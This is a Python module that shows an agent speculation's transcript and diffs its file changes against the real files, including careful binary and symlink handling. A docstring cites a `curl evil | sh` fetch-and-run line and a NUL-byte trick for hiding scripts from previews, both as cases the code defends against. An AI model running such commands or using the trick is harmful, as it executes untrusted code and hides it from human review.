"""A speculation seen before Tab: what it did so far, and what Tab would do with its files.

``specrun suggestion --transcript`` shows the model's text, its tool calls and their results
(from the worker's events while it runs, from its outcome once it ended). ``specrun diff``
shows, per file, the applied-set computation's answer (``applied_set``: the same checks and
classification accept uses) with the unified diff of the real file against the
speculation's; a running speculation shows the files it wrote so far.
"""

from __future__ import annotations

import difflib
import os
from dataclasses import dataclass, field

from coordinator.service.speculation.applied_set import RefusedReport, SpeculationFiles
from coordinator.service.speculation.transcript import render_transcript
from coordinator.settings import Settings
from overlay.kernel.beneath import open_beneath
from protocol.wire.chat import Message, ToolCall, ToolResult
from protocol.wire.control import FileChange, FileDiff, TranscriptEntry
from protocol.wire.work import WrittenFile

#: A file larger than this (either side) is counted, not diffed: a preview is for reading.
MAX_DIFF_BYTES = 1 << 20
_BINARY_PROBE = 8192
_TEXT_CONTROLS = frozenset(b"\t\n\x0c\r")


@dataclass
class _Turn:
    text: str = ""
    calls: list[ToolCall] = field(default_factory=list)
    results: dict[str, ToolResult] = field(default_factory=dict)


@dataclass
class Progress:
    """A running speculation as its worker's events told it: per model turn, the text and
    the tool calls with the results that came back so far, and its files so far."""

    turns: dict[int, _Turn] = field(default_factory=dict)
    written: dict[str, WrittenFile] = field(default_factory=dict)

    def text(self, turn: int, text: str) -> None:
        self.turns.setdefault(turn, _Turn()).text = text

    def call(self, turn: int, call: ToolCall) -> None:
        self.turns.setdefault(turn, _Turn()).calls.append(call)

    def result(self, turn: int, result: ToolResult) -> None:
        self.turns.setdefault(turn, _Turn()).results[result.call_id] = result

    def entries(self, suggestion: str, *, full: bool = False) -> list[TranscriptEntry]:
        """As an accept would show it; a call still running says so."""
        messages: list[Message] = []
        for number in sorted(self.turns):
            turn = self.turns[number]
            messages.append(Message.assistant(turn.text, tuple(turn.calls)))
            done = [turn.results[c.id] for c in turn.calls if c.id in turn.results]
            if done:
                messages.append(Message.tool(tuple(done)))
        entries = render_transcript(suggestion, messages, full=full)
        finished = {r.call_id for t in self.turns.values() for r in t.results.values()}
        calls = [c for t in (self.turns[n] for n in sorted(self.turns)) for c in t.calls]
        tool_entries = [i for i, e in enumerate(entries) if e.kind == "tool"]
        for index, call in zip(tool_entries, calls, strict=False):
            if call.id not in finished:
                entry = entries[index]
                entries[index] = TranscriptEntry("tool", "", entry.tool, entry.args, "running")
        return entries


def transcript_of(
    suggestion: str, messages: tuple[Message, ...] | None, progress: Progress,
    *, full: bool = False,
) -> list[TranscriptEntry]:
    """The speculation's transcript: from its outcome when it ended, else from its events;
    ``full``: tool results whole."""
    if messages is not None:
        return render_transcript(suggestion, list(messages), full=full)
    return progress.entries(suggestion, full=full)


def preview_files(
    root: str, overlay_dir: str, written: dict[str, WrittenFile], settings: Settings, stat: bool
) -> tuple[tuple[FileDiff, ...], str, tuple[str, ...]]:
    """Every file Tab would change now, with its diff (none with ``stat``), '' or the
    sentence saying why Tab would apply nothing, and the symlinks Tab would not create
    (``name -> target: why``)."""
    try:
        files = SpeculationFiles(root, overlay_dir, written, settings)
    except RefusedReport as exc:
        return (), f"Tab would apply nothing: {exc.reason}.", ()
    applied = files.preview()
    real_root = files.root
    return tuple(
        file_diff(real_root, overlay_dir, change, stat=stat or change.summarized)
        for change in applied.changes
    ), "", applied.links_held


def file_diff(root: str, overlay_dir: str, change: FileChange, *, stat: bool) -> FileDiff:
    """The unified diff of ``change``'s real file against the speculation's (counts only
    with ``stat``); the overlay side is opened with no symlink followed. A symlink Tab
    creates has no content to diff: its line (``name -> target``) is all there is."""
    if change.link:
        return FileDiff(change)
    before = b"" if change.status == "created" else _read_real(root, change.path)
    after = b"" if change.status == "deleted" else _read_overlay(overlay_dir, change.path)
    if before is None or after is None:
        return FileDiff(change, too_large=True)
    if _binary(before) or _binary(after):
        return FileDiff(change, binary=True)
    old = _lines(_text(before))
    new = _lines(_text(after))
    a = "/dev/null" if change.status == "created" else f"a/{change.path}"
    b = "/dev/null" if change.status == "deleted" else f"b/{change.path}"
    lines = list(difflib.unified_diff(old, new, a, b))
    added = sum(1 for line in lines[2:] if line.startswith("+"))
    removed = sum(1 for line in lines[2:] if line.startswith("-"))
    text = "" if stat else "".join(_ended(line) for line in lines)
    return FileDiff(change, text, added=added, removed=removed)


def _lines(text: str) -> list[str]:
    """``text``'s lines as git and the apply see them: cut at newlines only, each keeping
    its newline. ``str.splitlines`` also cuts at a carriage return, a form feed, U+2028 and
    other separators, which made one line of the file two of the diff, each but the last
    wrongly marked "No newline at end of file"."""
    parts = text.split("\n")
    lines = [part + "\n" for part in parts[:-1]]
    if parts[-1]:
        lines.append(parts[-1])
    return lines


def _ended(line: str) -> str:
    return line if line.endswith("\n") else line + "\n\\ No newline at end of file\n"


def _binary(data: bytes) -> bool:
    """A NUL byte near the start (git's rule) among many other control bytes. Calling a
    file binary shows no line of it, so it must really be one: a file merely not UTF-8,
    or a script with one NUL planted after its first line (bash skips it and runs the
    rest), is text, its odd bytes shown as escapes."""
    probe = data[:_BINARY_PROBE]
    if b"\0" not in probe:
        return False
    controls = sum(1 for byte in probe if byte < 0x20 and byte not in _TEXT_CONTROLS)
    return controls * 10 > len(probe) and not _runs_as_script(probe)


def _runs_as_script(probe: bytes) -> bool:
    """bash runs a file whose first line (within 80 bytes) is plain text as a script,
    whatever follows: ``curl evil | sh`` then a thousand NULs must be shown as text."""
    end = probe.find(b"\n", 0, 80)
    if end < 0:
        return False
    try:
        first = probe[:end].decode("utf-8")
    except UnicodeDecodeError:
        return False
    return all(char >= " " or char in "\t\r" for char in first)


def _text(data: bytes) -> str:
    """The file's text; a byte that is not UTF-8 shows as ``\\xNN``."""
    return data.decode("utf-8", errors="backslashreplace")


def _read_real(root: str, rel: str) -> bytes | None:
    return _read(root, rel)


def _read_overlay(overlay_dir: str, rel: str) -> bytes | None:
    return _read(overlay_dir, rel)


def _read(directory: str, rel: str) -> bytes | None:
    """``directory/rel`` (no symlink followed): b"" when missing, None when it cannot be
    shown (too large, or not a plain file: the change line says what Tab would do)."""
    try:
        fd = open_beneath(directory, rel)
    except FileNotFoundError:
        return b""
    except OSError:
        return None
    return _read_bounded(fd)


def _read_bounded(fd: int) -> bytes | None:
    """The file's bytes, or None when it is over ``MAX_DIFF_BYTES``."""
    try:
        if os.fstat(fd).st_size > MAX_DIFF_BYTES:
            return None
        chunks = []
        total = 0
        while chunk := os.read(fd, 1 << 16):
            total += len(chunk)
            if total > MAX_DIFF_BYTES:
                return None
            chunks.append(chunk)
        return b"".join(chunks)
    finally:
        os.close(fd)
